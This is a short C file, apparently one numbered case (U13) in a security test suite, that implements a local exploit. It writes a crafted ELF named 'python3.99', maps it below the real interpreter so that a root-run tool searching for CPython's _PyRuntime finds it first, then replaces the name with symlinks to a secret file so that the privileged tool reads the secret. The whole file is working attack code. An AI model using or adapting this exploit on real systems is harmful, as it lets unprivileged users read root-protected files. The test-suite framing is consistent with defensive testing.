/* U13: a crafted ELF named like an interpreter ("python3.99"), mapped at
 * offset 0 below the real interpreter (so that a search for CPython's
 * _PyRuntime meets it first), its name then made a symlink to the secret:
 * whoever reads its symbol table by its name reads the secret, as root. */
#include "escape.h"
#include "unwind.h"

int attack(int argc, char **argv)
{
	static uint8_t img[ESC_SIZE];
	unsigned long base;

	esc_elf(img, ESC_GOOD);
	if (write_file("python3.99", img, sizeof(img)))
		return result(-1), 1;
	base = map_exec("python3.99", ESC_SIZE, 0x200000);
	if (!base)
		return result(-1), 1;
	if (unlink("python3.99") < 0 ||
	    symlink(ARG("secret"), "python3.99") < 0 ||
	    symlink(ARG("secret"), "python3.99 (deleted)") < 0)
		say("symlink: %s", errname(errno));
	result(open(ARG("secret"), O_RDONLY));
	say("AFTER");
	return 0;
}
